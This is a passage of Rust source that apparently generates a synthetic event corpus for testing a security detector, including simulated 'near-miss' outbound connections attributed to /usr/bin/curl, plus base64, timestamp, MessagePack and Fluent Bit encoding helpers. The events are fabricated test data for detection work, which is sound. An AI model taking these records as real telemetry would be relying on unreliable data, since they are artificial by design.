            _ => (self.r.range(30_000, 3_000_000), true, false, "connection_attempted", false),
        };
        let ch = if other_host && self.hosts.len() > 1 { (h + 1) % self.hosts.len() } else { h };
        let mut c = self.child_connection(ch, &ent, "/usr/bin/curl", public, action);
        if zero {
            c["destination"]["ip"] = json!("0.0.0.0");
            c["destination"]["address"] = json!("0.0.0.0");
        }
        self.schedule(delay, c, Kind::NearMissConnection, public && !zero);
        e
    }
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

fn hex(r: &mut Rng, n: usize) -> String {
    const H: &[u8] = b"0123456789abcdef";
    (0..n).map(|_| H[r.below(16) as usize] as char).collect()
}

fn uuid(r: &mut Rng) -> String {
    format!("{}-{}-4{}-{}-{}", hex(r, 8), hex(r, 4), hex(r, 3), hex(r, 4), hex(r, 12))
}

fn base64(b: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::with_capacity(b.len() * 4 / 3 + 4);
    for c in b.chunks(3) {
        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
        for k in 0..4 {
            if k <= c.len() {
                s.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

/// RFC 3339 with 7 fractional digits, UTC, as Defend writes it.
pub fn timestamp(us: u64) -> String {
    let secs = us / 1_000_000;
    let frac = us % 1_000_000;
    let days = secs / 86_400;
    let rem = secs % 86_400;
    let (y, m, d) = civil(days as i64);
    format!("{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{frac:06}0Z", rem / 3600, rem / 60 % 60, rem % 60)
}

/// Days since 1970-01-01 to (year, month, day) (Howard Hinnant's algorithm).
fn civil(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

/// Nested objects to dotted keys (arrays kept as they are).
fn flatten(prefix: &str, v: Value, out: &mut Map<String, Value>) {
    match v {
        Value::Object(m) => {
            for (k, x) in m {
                let key = if prefix.is_empty() { k } else { format!("{prefix}.{k}") };
                flatten(&key, x, out);
            }
        }
        other => {
            out.insert(prefix.to_string(), other);
        }
    }
}

// ---------------------------------------------------------------------------
// MessagePack

fn mp_str(out: &mut Vec<u8>, s: &str) {
    let n = s.len();
    if n < 32 {
        out.push(0xa0 | n as u8);
    } else if n < 256 {
        out.extend_from_slice(&[0xd9, n as u8]);
    } else if n < 65536 {
        out.push(0xda);
        out.extend_from_slice(&(n as u16).to_be_bytes());
    } else {
        out.push(0xdb);
        out.extend_from_slice(&(n as u32).to_be_bytes());
    }
    out.extend_from_slice(s.as_bytes());
}

fn mp_len(out: &mut Vec<u8>, n: usize, fix: u8, m16: u8) {
    if n < 16 {
        out.push(fix | n as u8);
    } else if n < 65536 {
        out.push(m16);
        out.extend_from_slice(&(n as u16).to_be_bytes());
    } else {
        out.push(m16 + 1);
        out.extend_from_slice(&(n as u32).to_be_bytes());
    }
}

/// A JSON value as MessagePack (smallest encodings).
pub fn mp_value(out: &mut Vec<u8>, v: &Value) {
    match v {
        Value::Null => out.push(0xc0),
        Value::Bool(b) => out.push(0xc2 | *b as u8),
        Value::Number(n) => {
            if let Some(u) = n.as_u64() {
                if u < 128 {
                    out.push(u as u8);
                } else if u <= u32::MAX as u64 {
                    out.push(0xce);
                    out.extend_from_slice(&(u as u32).to_be_bytes());
                } else {
                    out.push(0xcf);
                    out.extend_from_slice(&u.to_be_bytes());
                }
            } else if let Some(i) = n.as_i64() {
                out.push(0xd3);
                out.extend_from_slice(&i.to_be_bytes());
            } else {
                out.push(0xcb);
                out.extend_from_slice(&n.as_f64().unwrap_or(0.0).to_be_bytes());
            }
        }
        Value::String(s) => mp_str(out, s),
        Value::Array(a) => {
            mp_len(out, a.len(), 0x90, 0xdc);
            for x in a {
                mp_value(out, x);
            }
        }
        Value::Object(m) => {
            mp_len(out, m.len(), 0x80, 0xde);
            for (k, x) in m {
                mp_str(out, k);
                mp_value(out, x);
            }
        }
    }
}

/// The corpus as Fluent Bit chunks of `per_chunk` v2 records
/// `[[EventTime, {}], {body}]` (EventTime: ext type 0, seconds and
/// nanoseconds from the record's `@timestamp` order — the detector reads the
/// body's `@timestamp`).
pub fn to_msgpack_chunks(corpus: &Corpus, per_chunk: usize) -> Vec<Vec<u8>> {
    let mut chunks = Vec::new();
    let mut chunk = Vec::new();
    for (i, line) in corpus.lines().enumerate() {
        let v: Value = serde_json::from_slice(line).unwrap();
        let t = START_US / 1_000_000 + i as u64 / 10_000;
        chunk.extend_from_slice(&[0x92, 0x92, 0xd7, 0x00]);
        chunk.extend_from_slice(&(t as u32).to_be_bytes());
        chunk.extend_from_slice(&((i as u32 % 1000) * 1_000_000).to_be_bytes());
        chunk.push(0x80);
        mp_value(&mut chunk, &v);
        if (i + 1) % per_chunk == 0 {
            chunks.push(std::mem::take(&mut chunk));
        }
    }
    if !chunk.is_empty() {
        chunks.push(chunk);
    }
    chunks
}
